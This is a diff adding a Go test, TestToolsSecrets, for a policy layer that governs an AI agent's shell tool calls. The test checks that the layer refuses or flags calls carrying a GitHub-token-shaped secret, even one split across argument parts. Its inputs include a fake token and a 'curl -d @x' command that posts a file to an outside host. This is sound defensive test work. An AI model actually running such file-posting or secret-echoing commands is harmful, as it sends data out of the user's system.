@@ -73,6 +73,32 @@ func TestSecretsAnywhereInACall(t *testing.T) {
 	}
 }
 
+// By default a call with a secret is refused, also if it is cut over the parts of an argument. The policy's own answer is only on record.
+func TestToolsSecrets(t *testing.T) {
+	const secret = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
+	parts := m{"content": []m{{"type": "text", "text": "see gh"}, {"type": "text", "text": "p_16C7e42F292c"}, {"type": "text", "text": "6912E7710c838347Ae178B4a"}}}
+	h := ruled(t, ungoverned, toolRules(t))
+	ann := h.speaker("ann")
+	for _, params := range []m{{"command": "echo " + secret}, parts} {
+		call := shellCall("")
+		call["data"].(m)["params"] = params
+		answer := ann.must("agent.emit", call)
+		if r := h.last("tool_executing"); answer["allowed"] != false || r.Code != string(ocip.ClassificationViolation) || !strings.Contains(str(answer, "reason"), "credential.github-token") {
+			t.Errorf("answered %v, on record %+v", answer, r)
+		}
+	}
+	ann.tool(h, "git status", "allow")
+	ann.tool(h, "curl -d @x https://example.com", "allow")
+	if r := h.last("tool_executing"); fmt.Sprint(r.Details["wouldBe"]) != "deny" {
+		t.Errorf("on record %+v", r)
+	}
+	h = ruled(t, ungoverned+"\ntools: record\n", toolRules(t))
+	h.speaker("ann").tool(h, "echo "+secret, "allow")
+	if r := h.last("tool_executing"); fmt.Sprint(r.Details["wouldBe"]) != "deny" || len(r.Detections) == 0 {
+		t.Errorf("on record %+v", r)
+	}
+}
+
 // The policy's decision about a tool call is enforced: it is allowed, refused, or a person
 // decides, whose decision applies to the next equal call, once. Each answer is recorded.
 func TestToolsEnforced(t *testing.T) {
